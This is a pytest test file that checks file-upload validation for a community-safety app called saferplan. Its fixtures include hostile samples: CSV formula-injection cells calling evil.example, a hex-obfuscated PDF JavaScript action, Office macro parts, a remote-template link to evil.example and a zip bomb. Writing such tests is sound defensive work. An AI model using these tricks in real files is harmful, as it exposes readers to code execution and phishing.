"""Files attached to records (attachments.files): real files of each kind saferplan keeps are
kept; a file that is not what its name says, carries something that could run on a reader's
computer or unpacks into far more than it is, is refused naming the file."""

import csv
import email.message
import hashlib
import io
import re
import zipfile

import docx
import pytest
from django.core.exceptions import ValidationError
from openpyxl import Workbook
from PIL import Image
from pypdf.actions import JavaScript

from saferplan.attachments.files import attachment_from_upload
from saferplan.attachments.responses import download
from saferplan.attachments.services import file_attach
from saferplan.core.documents.pdf import html_to_pdf


def word_file() -> bytes:
    document = docx.Document()
    document.add_paragraph("Problem profile: ASB on Shenley Road")
    out = io.BytesIO()
    document.save(out)
    return out.getvalue()


def excel_file() -> bytes:
    workbook = Workbook()
    workbook.active.append(["Month", "ASB reports"])
    workbook.active.append(["2019-07", 41])
    out = io.BytesIO()
    workbook.save(out)
    return out.getvalue()


def email_file() -> bytes:
    message = email.message.EmailMessage()
    message["From"] = "town.centre@hertsmere.example"
    message["To"] = "community.safety@hertsmere.example"
    message["Date"] = "Tue, 13 Aug 2019 09:12:00 +0100"
    message["Subject"] = "Shenley Road improvements"
    message.set_content("The new lighting is in and the shop thefts have fallen.")
    return bytes(message)


def png_file() -> bytes:
    out = io.BytesIO()
    Image.new("RGB", (40, 30), "navy").save(out, "PNG")
    return out.getvalue()


def with_part(content: bytes, name: str, data: bytes) -> bytes:
    """The Office file with one more part in it."""
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item, source.read(item.filename))
        target.writestr(name, data)
    return out.getvalue()


@pytest.mark.parametrize(
    ("name", "make", "content_type"),
    [
        (
            "profile.docx",
            word_file,
            "application/vnd.openxmlformats-officedocument.wordprocessingml.document",
        ),
        (
            "figures.xlsx",
            excel_file,
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet",
        ),
        ("report.pdf", lambda: html_to_pdf("<h1>Safer Streets+ report</h1>"), "application/pdf"),
        ("improvements.eml", email_file, "message/rfc822"),
        ("notes.txt", lambda: b"Visited the estate.\n", "text/plain; charset=utf-8"),
        ("map.png", png_file, "image/jpeg"),  # drawn again without its metadata
    ],
)
def test_real_files_of_each_kind_are_kept(name, make, content_type):
    checked = attachment_from_upload(name, make())
    assert checked.content_type == content_type
    assert checked.content


@pytest.mark.django_db
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_a_csv_file_is_kept_as_sent_and_given_out_formula_safe(delimiter, partnership):
    """What a partner sent is kept as it was (its digest is the file's); downloaded, a cell
    a spreadsheet would run (OWASP's CSV injection) is text, as in every CSV saferplan
    writes, in the file's own delimiter (Excel writes semicolons where a comma is the
    decimal mark); numbers, negative ones too, and other text are as they were."""
    rows = [
        ["Area", "Reports", "Note"],
        ["Borehamwood", "-5", '=HYPERLINK("http://evil.example","Click")'],
        ["Potters Bar", "+7", "@SUM(A1:A2)"],
    ]
    sent = io.StringIO()
    csv.writer(sent, delimiter=delimiter).writerows(rows)
    checked = attachment_from_upload("figures.csv", sent.getvalue().encode())
    assert checked.content == sent.getvalue().encode()
    attachment = file_attach(
        actor=None, partnership=partnership, name="figures.csv", checked=checked
    )
    assert attachment.sha256 == hashlib.sha256(sent.getvalue().encode()).hexdigest()
    response = download(attachment)
    given = response.content.decode("utf-8")
    assert given.startswith("\ufeff")
    assert list(csv.reader(io.StringIO(given[1:]), delimiter=delimiter)) == [
        rows[0],
        [*rows[1][:2], "'" + rows[1][2]],
        ["Potters Bar", "+7", "'@SUM(A1:A2)"],
    ]
    assert response["Content-Disposition"] == 'attachment; filename="figures.csv"'


def test_a_csv_hiding_a_formula_from_its_guessed_separator_is_refused_by_row():
    """A comma file with one semicolon a line reads as semicolon-separated: made safe that
    way, its cells after a comma would still run in a spreadsheet that splits on commas (as
    Excel does in the UK). Refused, naming the file and the row."""
    sent = (
        "Area,Note;x,Link\n"
        "Borehamwood,fine;ok,=HYPERLINK(C3)\n"
        "Potters Bar,a,b,c;d,http://evil.example\n"
        "Elstree,x;y,@SUM(1+1)\n"
    )
    with pytest.raises(ValidationError) as refused:
        attachment_from_upload("figures.csv", sent.encode())
    assert refused.value.messages == [
        "figures.csv, row 2: a spreadsheet reading the file with another separator would run "
        "a cell as a formula. Save it again from your spreadsheet with one separator, or as a "
        "text (.txt) file."
    ]


@pytest.mark.django_db
def test_a_csv_kept_before_that_check_is_given_out_as_text(partnership):
    """A file stored before the upload check (or put in the storage by hand) that no
    rewrite makes safe is never offered to a spreadsheet: it comes as text."""
    from django.core.files.base import ContentFile

    from saferplan.attachments.models import Attachment

    sent = (
        b"Area,Note;x,Link\nBorehamwood,fine;ok,=HYPERLINK(C3)\n"
        b"Potters Bar,a,b,c;d,http://evil.example\n"
    )
    kept = Attachment.objects.create(
        partnership=partnership,
        file=ContentFile(sent, name="kept.csv"),
        name="figures.csv",
        content_type="text/csv; charset=utf-8",
        size=len(sent),
        sha256=hashlib.sha256(sent).hexdigest(),
    )
    response = download(kept)
    assert response["Content-Type"] == "text/plain; charset=utf-8"
    assert response["Content-Disposition"] == 'attachment; filename="figures.csv.txt"'
    assert response.content == sent


def test_a_utf16_text_file_is_kept_as_utf8_and_one_without_its_mark_is_refused():
    text = "Area,Reports\nBorehamwood,41\n"
    kept = attachment_from_upload("figures.csv", text.encode("utf-16")).content
    assert kept.decode("utf-8-sig").splitlines() == text.splitlines()
    with pytest.raises(
        ValidationError, match=re.escape("figures.csv is saved as UTF-16: save as CSV UTF-8")
    ):
        attachment_from_upload("figures.csv", text.encode("utf-16-le"))


@pytest.mark.parametrize(
    ("name", "content", "says"),
    [
        ("script.html", b"<script>alert(1)</script>", "is not a kind of file saferplan keeps"),
        ("setup.exe", b"MZ\x90\x00", "is not a kind of file saferplan keeps"),
        ("no-extension", b"hello", "is not a kind of file saferplan keeps"),
        ("report.pdf", png_file(), "report.pdf is not a PDF file, whatever its name says"),
        ("profile.docx", b"PK\x03\x04 not really a zip", "is not a DOCX file"),
        ("profile.docx", excel_file(), "is not a DOCX file"),  # an Excel file renamed
        ("email.eml", b"Just some words, no headers at all", "is not a EML file"),
        ("empty.pdf", b"", "empty.pdf is empty"),
    ],
)
def test_a_file_that_is_not_what_it_says_is_refused_by_name(name, content, says):
    with pytest.raises(ValidationError, match=says):
        attachment_from_upload(name, content)


def pdf_with(add) -> bytes:
    """A real PDF (WeasyPrint's) rewritten by pypdf with `add(writer)` done to it."""
    from pypdf import PdfReader, PdfWriter

    writer = PdfWriter(clone_from=PdfReader(io.BytesIO(html_to_pdf("<p>Report</p>"))))
    add(writer)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


@pytest.mark.parametrize(
    "add",
    [
        lambda writer: writer.add_open_action(JavaScript("app.alert('opened');")),
        lambda writer: writer.add_attachment("setup.exe", b"MZ\x90\x00"),
    ],
    ids=["script", "file inside"],
)
def test_a_pdf_with_a_script_or_a_file_inside_is_refused(add):
    with pytest.raises(ValidationError, match="holds scripts, actions or files of its own"):
        attachment_from_upload("report.pdf", pdf_with(add))


def test_a_pdf_script_spelled_in_hex_is_refused():
    """/J#61vaScript is /JavaScript to a PDF reader."""
    scripted = pdf_with(lambda writer: writer.add_open_action(JavaScript("app.alert('opened');")))
    hidden = scripted.replace(b"/JavaScript", b"/J#61vaScript").replace(b"/JS ", b"/J#53 ")
    assert b"/JavaScript" not in hidden
    with pytest.raises(ValidationError, match="holds scripts, actions or files of its own"):
        attachment_from_upload("report.pdf", hidden)


def test_a_word_file_with_macros_is_refused():
    with pytest.raises(ValidationError, match="macros or other programs"):
        attachment_from_upload(
            "profile.docx", with_part(word_file(), "word/vbaProject.bin", b"\x00" * 64)
        )


def test_a_file_that_unpacks_into_far_more_is_refused():
    bomb = with_part(word_file(), "word/media/filler.xml", b"0" * (110 * 1024 * 1024))
    assert len(bomb) < 10 * 1024 * 1024  # small as it comes
    with pytest.raises(ValidationError, match="unpacks into more than 100 MB"):
        attachment_from_upload("profile.docx", bomb)


def test_a_file_too_large_is_refused_before_it_is_read():
    with pytest.raises(ValidationError, match=re.escape("big.pdf is larger than 10 MB")):
        attachment_from_upload("big.pdf", b"%PDF-" + b"0" * (10 * 1024 * 1024))


def test_an_office_file_that_fetches_a_template_or_hides_macros_is_refused():
    """The red team's: macros under another name (declared by content type, in capitals),
    an Excel 4.0 macro sheet, and a remote template that brings macros when opened."""
    remote = (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/'
        '2006/relationships"><Relationship Id="rId9" Type="http://schemas.openxmlformats.org/'
        'officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm"'
        ' TargetMode="External"/></Relationships>'
    )
    with zipfile.ZipFile(io.BytesIO(word_file())) as source:
        types = source.read("[Content_Types].xml").decode()
    capitals = types.replace(
        "</Types>",
        '<Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.VBAPROJECT"/></Types>',
    )
    for hostile in (
        with_part(word_file(), "word/_rels/settings.xml.rels", remote.encode()),
        with_part(excel_file(), "xl/macrosheets/sheet1.xml", b"<xm:macrosheet/>"),
        replace_part(word_file(), "[Content_Types].xml", capitals.encode()),
    ):
        with pytest.raises(ValidationError, match="macros or other programs"):
            attachment_from_upload(
                "profile.docx" if b"word/" in hostile else "figures.xlsx", hostile
            )


def replace_part(content: bytes, name: str, data: bytes) -> bytes:
    out = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(content)) as source,
        zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target,
    ):
        for item in source.infolist():
            target.writestr(item, data if item.filename == name else source.read(item.filename))
    return out.getvalue()


def test_an_email_carrying_html_or_a_file_is_refused():
    message = email.message.EmailMessage()
    message["From"] = "someone@example.org"
    message["Date"] = "Tue, 13 Aug 2019 09:12:00 +0100"
    message.set_content("See attached.")
    message.add_alternative("<p>See <script>alert(1)</script></p>", subtype="html")
    with pytest.raises(ValidationError, match="not plain text"):
        attachment_from_upload("mail.eml", bytes(message))
    carrying = email.message.EmailMessage()
    carrying["From"] = "someone@example.org"
    carrying["Date"] = "Tue, 13 Aug 2019 09:12:00 +0100"
    carrying.set_content("See attached.")
    carrying.add_attachment(b"PK\x03\x04", maintype="application", subtype="zip", filename="x.docm")
    with pytest.raises(ValidationError, match="holds an attachment"):
        attachment_from_upload("mail.eml", bytes(carrying))


def test_a_damaged_office_file_is_refused_not_a_crash():
    """The part saferplan reads (its content types) damaged: a bad compressed stream."""
    damaged = bytearray(word_file())
    with zipfile.ZipFile(io.BytesIO(bytes(damaged))) as archive:
        entry = archive.getinfo("[Content_Types].xml")
    start = entry.header_offset + 30 + len(entry.filename.encode()) + len(entry.extra)
    damaged[start : start + 16] = b"\xff" * 16
    with pytest.raises(ValidationError, match="is not a DOCX file"):
        attachment_from_upload("profile.docx", bytes(damaged))
